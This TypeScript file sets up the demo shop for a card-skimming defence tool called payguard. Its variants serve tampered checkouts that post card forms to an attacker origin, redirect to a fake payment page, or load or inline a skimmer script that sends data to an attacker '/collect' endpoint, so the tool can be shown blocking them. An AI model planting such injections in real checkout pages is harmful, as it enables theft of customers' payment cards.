/**
 * The demo storefront: a product, a cart and a checkout whose card form posts to the demo gateway.
 * It plays the shop payguard protects, including the shop after a break-in: `?variant=NAME`
 * (variants.ts) serves the tampered checkout an intruder would leave behind.
 *
 * Links are relative so the same pages work direct and through payguard; only the gateway and
 * attacker are absolute, as they would be on a real shop.
 */
import type { IncomingMessage, ServerResponse } from 'node:http';
import { escapeHtml, readForm, sendHtml, sendStatus, startSite, type RunningSite } from './http.js';
import type { ListenAddress } from '../listen.js';
import { CHECKOUT_SCRIPT, CHECKOUT_SOURCE, sendScript, SKIMMED_SCRIPT, skimmedSource } from './first-party.js';
import { layout, SHOP_BRAND } from './layout.js';
import { skimmerSource } from './skimmer.js';
import { isVariantName, VARIANT_NAMES, VARIANTS, variantUrl, type VariantName } from './variants.js';

export interface StorefrontOptions {
  readonly listen: ListenAddress;
  /** The shop's public origin: payguard's, the one customers use. */
  readonly publicOrigin: string;
  readonly gatewayOrigin: string;
  readonly attackerOrigin: string;
}

export interface StorefrontSites {
  readonly publicOrigin: string;
  readonly gatewayOrigin: string;
  readonly attackerOrigin: string;
  /** The storefront's own address, for the "direct" links of the control page. */
  readonly directOrigin: string;
}

const PRODUCT = { id: 'sencha', name: 'Shizuoka sencha, 100 g', priceYen: 1800 };

export async function startStorefront(options: StorefrontOptions): Promise<RunningSite> {
  // The direct origin is known only once listening; the handler reads it from here.
  const sites: { current?: StorefrontSites } = {};
  const site = await startSite(options.listen, (req, res) => {
    void route(sites.current!, req, res).catch((err: unknown) => {
      if (!res.headersSent) sendHtml(res, 500, layout(SHOP_BRAND, 'Error', `<p>${escapeHtml(String(err))}</p>`));
    });
  });
  sites.current = { ...options, directOrigin: site.url };
  return site;
}

async function route(sites: StorefrontSites, req: IncomingMessage, res: ServerResponse): Promise<void> {
  const url = new URL(req.url ?? '/', 'http://storefront.invalid');
  const variantParam = url.searchParams.get('variant');
  const variant = isVariantName(variantParam) ? variantParam : undefined;
  const method = req.method ?? 'GET';
  const read = method === 'GET' || method === 'HEAD';

  if (read && url.pathname === '/') return sendHtml(res, 200, homePage(variant));
  if (read && url.pathname === '/product/sencha') return sendHtml(res, 200, productPage(variant));
  if (method === 'POST' && url.pathname === '/cart/add') {
    await readForm(req);
    return sendStatus(res, 303, {
      Location: withVariant('/cart', variant),
      'Set-Cookie': 'cart=sencha; Path=/; SameSite=Lax; HttpOnly',
    });
  }
  if (read && url.pathname === '/cart') return sendHtml(res, 200, cartPage(hasCart(req), variant));
  if (read && url.pathname === '/checkout') return sendHtml(res, 200, checkoutPage(sites, variant));
  if (read && url.pathname === '/checkout/pay') {
    // "Pay on the gateway's page": a redirect to the hosted payment page (allow.navigate),
    // or, after the break-in, to the attacker's copy of it.
    const target = variant === 'redirect-302' ? `${sites.attackerOrigin}/pay` : `${sites.gatewayOrigin}/pay`;
    return sendStatus(res, 302, { Location: `${target}?amount=${PRODUCT.priceYen}` });
  }
  if (read && url.pathname === '/demo') return sendHtml(res, 200, controlPage(sites));
  if (read && url.pathname === CHECKOUT_SCRIPT) return sendScript(res, CHECKOUT_SOURCE);
  // Left on the server by the intruder of the skimmed-bundle variant (it is there whatever the query).
  if (read && url.pathname === SKIMMED_SCRIPT) return sendScript(res, skimmedSource(sites.attackerOrigin));
  sendHtml(res, 404, layout(SHOP_BRAND, 'Not found', '<h1>Not found</h1><p><a href="/">Back to the shop</a></p>'));
}

function hasCart(req: IncomingMessage): boolean {
  return /(?:^|;\s*)cart=sencha(?:;|$)/.test(req.headers.cookie ?? '');
}

function withVariant(path: string, variant: VariantName | undefined): string {
  return variant ? `${path}?variant=${variant}` : path;
}

function homePage(variant: VariantName | undefined): string {
  return layout(
    SHOP_BRAND,
    'Home',
    `<h1>Fresh Japanese tea</h1>
<p><a href="${withVariant('/product/sencha', variant)}">${escapeHtml(PRODUCT.name)}</a>: ¥${PRODUCT.priceYen.toLocaleString('en')}</p>
<p class="note">This is payguard's demo shop. The <a href="/demo">demo control page</a> lists the tampered checkouts to try.</p>`,
  );
}

function productPage(variant: VariantName | undefined): string {
  return layout(
    SHOP_BRAND,
    PRODUCT.name,
    `<h1>${escapeHtml(PRODUCT.name)}</h1>
<p>First-flush green tea from Shizuoka. ¥${PRODUCT.priceYen.toLocaleString('en')}</p>
<form method="post" action="${withVariant('/cart/add', variant)}">
<input type="hidden" name="item" value="${PRODUCT.id}">
<button type="submit">Add to cart</button>
</form>`,
  );
}

function cartPage(filled: boolean, variant: VariantName | undefined): string {
  const body = filled
    ? `<table><tr><th>Item</th><th>Price</th></tr><tr><td>${escapeHtml(PRODUCT.name)}</td><td>¥${PRODUCT.priceYen.toLocaleString('en')}</td></tr></table>
<p><a href="${withVariant('/checkout', variant)}">Go to checkout</a></p>`
    : `<p>Your cart is empty. <a href="${withVariant('/product/sencha', variant)}">See the tea</a>.</p>`;
  return layout(SHOP_BRAND, 'Cart', `<h1>Cart</h1>\n${body}`);
}

function checkoutPage(sites: StorefrontSites, variant: VariantName | undefined): string {
  // The break-in of 2019 changed exactly one thing: where the card form posts.
  const action = variant === 'fake-form-2019' ? `${sites.attackerOrigin}/pay` : `${sites.gatewayOrigin}/pay`;
  // Issue 17 class 4: the only change is the URL in the data the shop's own script follows.
  const hosted = variant === 'carried-payment-url' ? `${sites.attackerOrigin}/pay` : `${sites.gatewayOrigin}/pay`;
  const head =
    variant === 'meta-refresh' ? `<meta http-equiv="refresh" content="2; url=${sites.attackerOrigin}/pay?amount=${PRODUCT.priceYen}">\n` : '';
  let tail = '';
  if (variant === 'skimmer-script') tail = `<script src="${sites.attackerOrigin}/skimmer.js"></script>\n`;
  if (variant === 'inline-skimmer') tail = `<script>\n${skimmerSource(`${sites.attackerOrigin}/collect`)}</script>\n`;
  // The shop's own checkout script; after the break-in, the page names the skimmed copy instead.
  tail += `<script src="${variant === 'skimmed-bundle' ? SKIMMED_SCRIPT : CHECKOUT_SCRIPT}"></script>\n`;
  return layout(
    SHOP_BRAND,
    'Checkout',
    `<h1>Checkout</h1>
<p>${escapeHtml(PRODUCT.name)}: <strong>¥${PRODUCT.priceYen.toLocaleString('en')}</strong></p>
<form method="post" action="${action}" data-card-form>
<input type="hidden" name="amount" value="${PRODUCT.priceYen}">
<input type="hidden" name="return_to" value="${sites.publicOrigin}/">
<label for="name">Name on card</label><input id="name" name="name" autocomplete="cc-name" value="Taro Yamada">
<label for="card">Card number</label><input id="card" name="card" autocomplete="cc-number" inputmode="numeric" value="4111 1111 1111 1111">
<label for="exp">Expiry (MM/YY)</label><input id="exp" name="exp" autocomplete="cc-exp" value="12/30">
<label for="cvc">Security code</label><input id="cvc" name="cvc" autocomplete="cc-csc" inputmode="numeric" value="123">
<button type="submit">Pay ¥${PRODUCT.priceYen.toLocaleString('en')}</button>
</form>
<p>Or <a href="${withVariant('/checkout/pay', variant)}">pay on the gateway's own page</a>,
or <button type="button" data-hosted-payment-url="${hosted}">pay on the gateway's hosted page</button>.</p>
<p class="note">Demo: the card fields hold the public test number 4111 1111 1111 1111. Never type a real card here.</p>
${tail}`,
    head,
  );
}

function controlPage(sites: StorefrontSites): string {
  const rows = VARIANT_NAMES.map((name) => {
    const v = VARIANTS[name];
    return `<tr><td><strong>${escapeHtml(v.title)}</strong><br><code>${name}</code>: ${escapeHtml(v.story)}<br>payguard blocks it with reason <code>${v.reason}</code></td>
<td><a href="${escapeHtml(variantUrl(sites.publicOrigin, name))}">through payguard</a></td>
<td><a href="${escapeHtml(variantUrl(sites.directOrigin, name))}">direct (attack works)</a></td></tr>`;
  }).join('\n');
  return layout(
    SHOP_BRAND,
    'Demo control page',
    `<h1>payguard demo</h1>
<p>The shop through payguard: <a href="${sites.publicOrigin}/">${sites.publicOrigin}/</a>. The same shop direct, as an intruder's change would reach customers without payguard: <a href="${sites.directOrigin}/">${sites.directOrigin}/</a>.</p>
<p>Each row below is a checkout an intruder could leave behind. Open it direct to see the attack work (the attacker's loot page is <a href="${sites.attackerOrigin}/">${sites.attackerOrigin}/</a>), then through payguard to see it blocked and counted.</p>
<table><tr><th>Tampered checkout</th><th></th><th></th></tr>
<tr><td><strong>Clean checkout</strong> (no tampering)</td><td><a href="${sites.publicOrigin}/checkout">through payguard</a></td><td><a href="${sites.directOrigin}/checkout">direct</a></td></tr>
${rows}
</table>`,
  );
}
